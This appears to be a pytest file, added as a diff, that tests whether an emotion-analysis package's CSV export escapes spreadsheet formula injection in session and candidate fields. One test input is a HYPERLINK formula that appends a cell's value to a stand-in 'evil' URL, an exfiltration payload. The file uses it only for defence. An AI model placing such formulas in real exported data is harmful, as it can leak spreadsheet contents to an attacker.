@@ -1,0 +1,55 @@
+"""emotion_core.report's CSV export opened in a spreadsheet."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import numpy as np
+import pandas as pd
+import pytest
+
+from emotion_core import nervousness as nv
+from emotion_core import report, stats
+from emotion_core.classes import CLASSES
+
+
+def sad_frames(n: int = 50, fps: float = 5.0) -> pd.DataFrame:
+    probs = {c: float(c == "sad") for c in CLASSES}
+    return pd.DataFrame(
+        [
+            {
+                "t_s": i / fps,
+                "frame": i,
+                "face_id": 0,
+                "x": 0,
+                "y": 0,
+                "w": 9,
+                "h": 9,
+                **probs,
+                "label": "sad",
+            }
+            for i in range(n)
+        ]  # fmt: skip
+    )
+
+
+@pytest.mark.parametrize(
+    "name", ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
+)
+def test_a_name_that_looks_like_a_formula_is_exported_as_text(name: str) -> None:
+    s = stats.summarize_session(sad_frames(), "s", stats.BootstrapConfig(n_boot=50, seed=0))
+    verdict = nv.evaluate_rule(nv.SEED_RULE, s)
+    meta = {"session_id": name, "candidate": name, "source": name, "model_name": name}
+    text = report.summary_csv([(meta, s, verdict)])
+    (row,) = csv.DictReader(io.StringIO(text, newline=""))
+    for column in ("session_id", "candidate", "source", "model_name"):
+        assert row[column] == "'" + name  # a spreadsheet shows it, does not run it
+    assert float(row["share_sad"]) == 1.0  # numbers stay numbers
+    assert not np.isnan(float(row["duration_s"]))
+
+
+def test_ordinary_names_are_unchanged() -> None:
+    assert report.spreadsheet_safe("Zoë Müller") == "Zoë Müller"
+    assert report.spreadsheet_safe("a-b=c") == "a-b=c"  # only a leading sign counts
+    assert report.spreadsheet_safe(-0.5) == -0.5
